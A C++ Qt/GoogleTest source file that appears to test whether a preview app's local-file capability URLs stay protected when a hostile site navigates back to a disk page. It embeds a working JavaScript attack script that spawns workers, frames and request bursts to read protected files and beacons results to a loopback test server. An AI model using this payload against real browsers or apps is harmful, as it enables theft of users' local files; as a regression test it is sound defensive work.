  function beacon(what) { fetch(SITE + '/' + what, {mode: 'no-cors'}).catch(function () {}); }
  var u = new URL(from), config = new URL('../other/config.js', from), image = new URL('../other/image.png', from);
  var scripts = [config.href], images = [image.href];
  if (PORT) {
    scripts.push('http://127.0.0.1:' + PORT + '/' + u.host + config.pathname);
    images.push('http://127.0.0.1:' + PORT + '/' + u.host + image.pathname);
  }
  function caught(address) {
    if (self.stolen !== 'QVSECRET') return;
    self.stolen = undefined;
    beacon('read-' + kind + '-' + encodeURIComponent(address));
  }
  // leaving: the page is going, and asks so that its requests outlive it (a page may keep few such).
  function attempt(leaving) {
    scripts.forEach(function (address) {
      var a = address + '?' + Math.random();
      if (inWorker) { try { importScripts(a); } catch (e) {} caught(address); }
      else {
        var s = document.createElement('script'); s.src = a;
        s.onload = function () { caught(address); s.remove(); }; s.onerror = function () { s.remove(); };
        (document.head || document.documentElement).appendChild(s);
      }
      if (leaving && /^http/.test(a)) fetch(a, {mode: 'no-cors', keepalive: true}).catch(function () {});
    });
    if (!inWorker) images.forEach(function (address) {
      var i = new Image(); i.onload = function () { beacon('read-image-' + kind); }; i.src = address + '?' + Math.random();
    });
  }
  // (A shared worker, of no view, answers whoever connects.)
  if (!inWorker) beacon('armed-' + kind);
  else if (self.postMessage) postMessage('armed');
  else self.onconnect = function (e) { e.ports[0].postMessage('armed'); };
  // A worker keeps asking; a document asks at once, and again while it goes.
  if (inWorker) setInterval(attempt, 300); else attempt();
  if (inWorker || kind !== 'outer') return;
  var code = '(' + qvAgent.toString() + ')';
  function start(k) { return code + '(' + [k, from, PORT, SITE, ''].map(function (v) { return JSON.stringify(v); }).join(', ') + ')'; }
  [URL.createObjectURL(new Blob([start('worker')], {type: 'text/javascript'})), 'data:text/javascript,' + encodeURIComponent(start('worker'))]
    .forEach(function (address) {
      try {
        var w = new Worker(address);
        w.onmessage = function () { beacon('armed-worker'); };
        (self.qvWorkers = self.qvWorkers || []).push(w);
      } catch (e) {}
    });
  try {
    var shared = new SharedWorker(URL.createObjectURL(new Blob([start('shared-worker')], {type: 'text/javascript'})));
    shared.port.onmessage = function () { beacon('armed-shared-worker'); };
    shared.port.start();
    self.qvShared = shared;
  } catch (e) {}
  [['frame', false], ['sandboxed-frame', true]].forEach(function (f) {
    var e = document.createElement('iframe');
    if (f[1]) e.sandbox = 'allow-scripts';
    e.srcdoc = '<html><head></head><body><script>' + start(f[0]) + '<\/script></body></html>';
    document.body.appendChild(e);
  });
  function burst() {
    for (var n = 0; n < 30; ++n) attempt(n < 10);
    scripts.forEach(function (address) {
      var e = document.createElement('iframe'); e.src = address + '?' + Math.random(); document.body.appendChild(e);
    });
  }
  window.addEventListener('pagehide', burst);
  setTimeout(function () {
    if (route === 'user') return beacon('ready');
    if (route === 'back') history.back();
    else if (route === 'go') history.go(-1);
    else { history.back(); location.replace(SITE + '/attack.html?replaced'); }
    burst();
    setTimeout(burst, 5);
    setTimeout(burst, 20);
  }, 500);
})js";

}  // namespace

namespace {

// Waits until done() holds, at most ms, turning the event loop as the program's does. (QTest's
// wait sleeps between turns, and the engine runs its tasks on this thread: under a page's flood of
// requests, each a task here, that wait alone held a return for tens of seconds.)
bool turnUntil(const std::function<bool()>& done, int ms) {
    if (done()) return true;
    QEventLoop loop;
    QTimer poll;
    QObject::connect(&poll, &QTimer::timeout, &loop, [&] {
        if (done()) loop.quit();
    });
    QTimer::singleShot(ms, &loop, &QEventLoop::quit);
    poll.start(10);
    loop.exec();
    return done();
}

// A page from the disk hands its address to a site, and shows it. The site goes back to the page,
// by script or by the user's Back, trying the page's capability all the while from itself, its
// frames and its worker; or it shows in a second view while the page still shows in the first,
// trying the capability that holds there. None reads a file (the kernel sees none opened), as a
// web page gets no file from Chromium; the page comes anew with its own stylesheet, script, image
// and frame (one that moved) on every return (back, forward then back, reload), and while the
// second view tries; no title the view reports, nor its window's, holds the page scheme.
void returnToADiskPage(QLatin1String only) {
    LoopbackSite site;
    TestDir dir;
    dir.write("other/config.js", "self.stolen = 'QVSECRET';");
    dir.write("other/image.png", pixel);
    dir.write("site/own.css", "body { color: rgb(1, 2, 3); }");
    dir.write("site/own.js", "window.ownScript = true;");
    dir.write("site/own.png", pixel);
    // (It moves once, as a frame a user clicked in does: the page's history entry keeps where.)
    dir.write("site/own-frame.html", "<script>if (!location.search) location.replace(location.href + '?moved'); else parent.postMessage('own-frame', '*');</script>");
    // No <title>: the engine names the page by its address until its script names it.
    const QString diskPath = dir.write("site/index.html", QByteArray(R"(<!DOCTYPE html><html><head>
<link rel="stylesheet" href="own.css"><script src="own.js"></script><script src="@SITE@/state.js"></script></head>
<body><img id="own" src="own.png"><iframe src="own-frame.html"></iframe><script>
var framed = false, loaded = false;
addEventListener('message', function (e) { if (e.data === 'own-frame') { framed = true; named(); } });
window.onload = function () { loaded = true; named(); };
function named() {
  if (!loaded || !framed) return;
  var parts = [];
  if (getComputedStyle(document.body).color === 'rgb(1, 2, 3)') parts.push('stylesheet');
  if (window.ownScript) parts.push('script');
  if (document.getElementById('own').naturalWidth === 1) parts.push('image');
  parts.push('frame');
  // (A nonce: going back, the view first names the page by its history entry's old title.)
  document.title = 'disk ' + parts.join(' ') + ' ' + Math.random();
  new Image().src = '@SITE@/beacon-' + window.tag + '?' + encodeURIComponent(location.href);
  if (window.route === 'back' || window.route === 'go' || window.route === 'replace') setTimeout(function () {
    location = '@SITE@/attack.html?route=' + window.route + '&from=' + encodeURIComponent(location.href);
  }, 50);
}
</script></body></html>)").replace("@SITE@", site.address().toUtf8()));
    const QUrl diskPage = QUrl::fromLocalFile(diskPath);
    const QString shownParts = QStringLiteral("disk stylesheet script image frame");
    FileReads fileReads(dir.file("other"));
    ASSERT_TRUE(fileReads.watching());

    // The page goes to the site once per row (the site tells it how to come back), and the site
    // attacks once: shown again (forward), it is a quiet page.
    QByteArray route;
    int tag = 0;  // the row's, which the page's reports carry: a page of an earlier row may report late
    bool attacked = false;
    quint16 port = 0;
    for (const char* path : {"/state.js", "/attack.html"}) site.headers.insert(path, "Cache-Control: no-store\r\n");
    site.made = [&](const QString& path) -> std::pair<QByteArray, QByteArray> {
        const QString bare = path.section('?', 0, 0);
        if (bare == QLatin1String("/state.js"))
            return {"text/javascript", "window.route = '" + std::exchange(route, QByteArray()) + "'; window.tag = " + QByteArray::number(tag) + ";"};
        if (bare != QLatin1String("/attack.html")) return {};
        if (std::exchange(attacked, true)) return {"text/html", "<html><head><title>site</title></head><body>quiet</body></html>"};
        const QUrlQuery query(QUrl(path).query());
        return {"text/html", "<!DOCTYPE html><html><head><title>attack</title></head><body><script>window.onload = function () { (" + QByteArray(returningAttack) + ")('outer', " +
                                 QJsonDocument(QJsonArray{query.queryItemValue("from", QUrl::FullyDecoded)}).toJson(QJsonDocument::Compact).mid(1).chopped(1) +
                                 ", " + QByteArray::number(port) + ", '" + site.address().toUtf8() + "', '" +
                                 query.queryItemValue("route").toUtf8() + "'); };</script></body></html>"};
    };
    const auto reads = [&] { return site.paths.filter(QRegularExpression(QStringLiteral("^/read-"))); };
    const QStringList agents{"/armed-outer", "/armed-frame", "/armed-sandboxed-frame", "/armed-worker", "/armed-shared-worker"};
    const auto armed = [&] { return std::all_of(agents.begin(), agents.end(), [&](const QString& a) { return site.paths.contains(a); }); };

    struct Route {
        const char* name;
        QByteArray route;
    };
    // "another view": the site shows in a second view while the page still shows in the first.
    // "a Back stopped": the user stops the return at once, waits while the site tries, and goes back again.
    // "replaced": the site's history.back() gives way at once to another page of the site.
    const QList<Route> routes{{"history.back()", "back"}, {"history.go(-1)", "go"},   {"history.back() replaced", "replace"},
                              {"the user's Back", "user"}, {"a Back stopped", "stop"}, {"another view", "view"}};

    // Chromium, the page on file:, is the peer: the site's documents run and read nothing.
    for (const Route& r : routes) {
        // (Headless Chromium has no one to press Back; the preview's row holds the peer to it.)
        if (r.route == "user" || r.route == "stop" || r.route == "view" || only != QLatin1String("preview")) continue;
        SCOPED_TRACE(std::string("chromium, ") + r.name);
        site.paths.clear();
        route = r.route;
        attacked = false;
        const QString title = chromiumTitle(diskPage.toString(), 8000);
        EXPECT_FALSE(site.paths.filter(QStringLiteral("/attack.html?")).isEmpty()) << title.toStdString() << " " << site.paths.join(' ').toStdString();
        EXPECT_EQ(reads(), QStringList());
        EXPECT_EQ(fileReads.taken(), QStringList());
    }

    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
    struct View {
        const char* name;
        QMainWindow* window;
        QVWebView* view;
        std::function<void()> show;
    };
    const QList<View> views{
        {"preview", &preview, preview.webView(), [&] { preview.showURL(diskPage.toString()); }},
        {"help", &help, help.webView(), [&] { help.showPage(diskPage); }},
        {"welcome", &welcome, welcome.infoWebView(),
         [&] {
             welcome.show();
             welcome.infoWebView()->load(diskPage);
         }},
    };
    for (const View& v : views) {
        if (QLatin1String(v.name) != only) continue;
        for (const Route& r : routes) {
            // A page's own history moves in the preview; the user's Back and a second view in every view.
            if (r.route != "user" && r.route != "view" && v.window != &preview) continue;
            SCOPED_TRACE(std::string(v.name) + ", " + r.name);
            QSignalSpy titles(v.view, &QVWebView::titleChanged);
            QStringList everyTitle, windowTitles;
            const QMetaObject::Connection noting =
                QObject::connect(v.view, &QVWebView::titleChanged, [&](const QString& title) { everyTitle << title; });
            const auto last = [&] { return titles.isEmpty() ? QString() : titles.last().first().toString(); };
            // (The site's frames, which never stop loading, keep its page loading; the page from
            // the disk names its parts once they loaded.)
            // The page from the disk settles on a title of its own parts and a nonce no earlier
            // document of it had.
            // earlier: the titles before the navigation (the page's old ones among them).
            const auto settle = [&](const QString& title, const QStringList& earlier = {}) {
                const bool settled = turnUntil(
                    [&] {
                        windowTitles << v.window->windowTitle();
                        const bool named = title == shownParts ? last().startsWith(title + ' ') && !earlier.contains(last()) : last() == title;
                        return named && (v.view->loadProgress() == 100 || title != QLatin1String("site"));
                    },
                    30000);
                return settled ? title : "still " + last() + " at " + v.view->url().toString();
            };
            site.paths.clear();
            route = r.route;
            ++tag;
            attacked = false;
            // The page file server listens from the first page shown; the site is told its port.
            if (!port) help.showPage(QUrl::fromLocalFile(dir.write("first.html", "<title>first</title>")));
            if (!port) port = pageFileServerPort({site.port()});
            ASSERT_NE(port, 0);
            // (A window asked for the page it shows may keep it as it is.)
            if (v.view->url() == diskPage) {
                v.view->load(QUrl(QStringLiteral("about:blank")));
                ASSERT_TRUE(turnUntil([&] { return v.view->url() != diskPage; }, 20000));
            }
            v.show();
            QString beacon;
            if (r.route != "back" && r.route != "go" && r.route != "replace") {
                ASSERT_TRUE(turnUntil([&] { return !(beacon = site.paths.filter(QStringLiteral("/beacon-%1?").arg(tag)).value(0)).isEmpty(); }, 20000));
            }
            const QUrl attack(site.address() + "/attack.html?route=user&from=" + beacon.section('?', 1));
            if (r.route == "view") {
                // The site shows beside the page, in a view of its own, and tries the page's
                // capability, which holds all the while, from its frames and worker; the page
                // still has its files (a reload while it tries), the site none, up to its end.
                EXPECT_EQ(settle(shownParts), shownParts);
                std::unique_ptr<QVWebView> other(QVWebView::create(nullptr));
                other->resize(400, 300);
                other->show();
                other->load(attack);
                ASSERT_TRUE(turnUntil([&] { return armed() && site.paths.contains(QStringLiteral("/ready")); }, 20000))
                    << site.paths.join(' ').toStdString();
                const QStringList beforeReload = everyTitle;
                v.view->reload();
                EXPECT_EQ(settle(shownParts, beforeReload), shownParts);
                EXPECT_EQ(v.view->url(), diskPage);
                QTest::qWait(1000);
                other->load(QUrl(QStringLiteral("about:blank")));
                QTest::qWait(1000);
                EXPECT_EQ(reads(), QStringList());
                EXPECT_EQ(fileReads.taken(), QStringList());
            } else {
                const bool byUser = r.route == "user" || r.route == "stop";
                if (byUser) {
                    // The user takes the view to the site (the engine's Back would skip a page that
                    // left by itself, as Chromium's does).
                    v.view->load(attack);
                }
                ASSERT_EQ(settle(QStringLiteral("attack")), "attack");
                ASSERT_TRUE(turnUntil([&] { return site.paths.contains(QStringLiteral("/armed-outer")); }, 20000));
                EXPECT_TRUE(v.view->url().toString().startsWith(site.address())) << v.view->url().toString().toStdString();
                if (byUser) {
                    ASSERT_TRUE(turnUntil([&] { return armed() && site.paths.contains(QStringLiteral("/ready")); }, 20000))
                        << site.paths.join(' ').toStdString();
                    v.view->back();
                }
                if (r.route == "stop") {
                    // (Stopped in time or not: either the site still shows, or the page came.)
                    v.view->stop();
                    turnUntil([] { return false; }, 1500);
                    EXPECT_EQ(reads(), QStringList());
                    EXPECT_EQ(fileReads.taken(), QStringList());
                    if (v.view->url() != diskPage) v.view->back();
                }
                if (r.route == "replace") {
                    // Whichever wins, the site or the page, nothing reads a file.
                    const QStringList earlier = everyTitle.mid(0, everyTitle.lastIndexOf("attack"));
                    EXPECT_TRUE(turnUntil([&] { return (last().startsWith(shownParts + ' ') && !earlier.contains(last())) || last() == QLatin1String("site"); }, 30000))
                        << last().toStdString();
                    turnUntil([] { return false; }, 1000);
                } else {
                    // A page from the disk is never kept for a return as it was left (the engine keeps
                    // only web pages so): it comes anew, with its parts.
                    EXPECT_EQ(settle(shownParts, everyTitle.mid(0, everyTitle.lastIndexOf("attack"))), shownParts);
                    EXPECT_EQ(v.view->url(), diskPage);
                    QTest::qWait(500);
                    EXPECT_TRUE(armed()) << site.paths.join(' ').toStdString();
                    EXPECT_EQ(reads(), QStringList());
                    EXPECT_EQ(fileReads.taken(), QStringList());

                    // Forward to the site (quiet now), back, and a reload: the page has its files each time.
                    // (The engine's Back skips a page that left by itself, as Chromium's does: the user's
                    // row only.)
                    if (r.route == "user") {
                        v.view->forward();
                        EXPECT_EQ(settle(QStringLiteral("site")), "site");
                        v.view->back();
                        EXPECT_EQ(settle(shownParts, everyTitle.mid(0, everyTitle.lastIndexOf("site"))), shownParts);
                        const QStringList beforeReload = everyTitle;
                        v.view->reload();
                        EXPECT_EQ(settle(shownParts, beforeReload), shownParts);
                        EXPECT_EQ(v.view->url(), diskPage);
                    }
                }
            }
            EXPECT_EQ(reads(), QStringList());
            EXPECT_EQ(fileReads.taken(), QStringList());
            QObject::disconnect(noting);
            // The engine named the page by its address before its script did: as a file: address.
            const QString capability = QRegularExpression(QStringLiteral("qvfile%3A%2F%2F([0-9a-f]{32})"), QRegularExpression::CaseInsensitiveOption)
                                           .match(site.paths.join(' '))
                                           .captured(1);
            ASSERT_EQ(capability.size(), 32) << site.paths.join(' ').toStdString();
            EXPECT_TRUE(everyTitle.filter(QStringLiteral("qvfile:"), Qt::CaseInsensitive).isEmpty()) << everyTitle.join('|').toStdString();
            // (The site's own address holds it, as the page put it there.)
            const QStringList ours = everyTitle.filter(QRegularExpression(QStringLiteral("^(?!.*attack\\.html)")));
            EXPECT_TRUE(ours.filter(capability, Qt::CaseInsensitive).isEmpty()) << everyTitle.join('|').toStdString();
            EXPECT_FALSE(everyTitle.filter(QStringLiteral("index.html")).isEmpty()) << everyTitle.join('|').toStdString();
            windowTitles.removeDuplicates();
            EXPECT_TRUE(windowTitles.filter(QStringLiteral("qvfile:"), Qt::CaseInsensitive).isEmpty()) << windowTitles.join('|').toStdString();
        }
        v.window->close();
    }
    welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
}

}  // namespace

class ReturnToADiskPage : public ::testing::TestWithParam<const char*> {};

TEST_P(ReturnToADiskPage, ACapabilityHoldsAgainOnlyOnceItsPageIsShownAgain) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    returnToADiskPage(QLatin1String(GetParam()));
}

INSTANTIATE_TEST_SUITE_P(PageTrust, ReturnToADiskPage, ::testing::Values("preview", "help", "welcome"),
                         [](const ::testing::TestParamInfo<const char*>& row) { return std::string(row.param); });
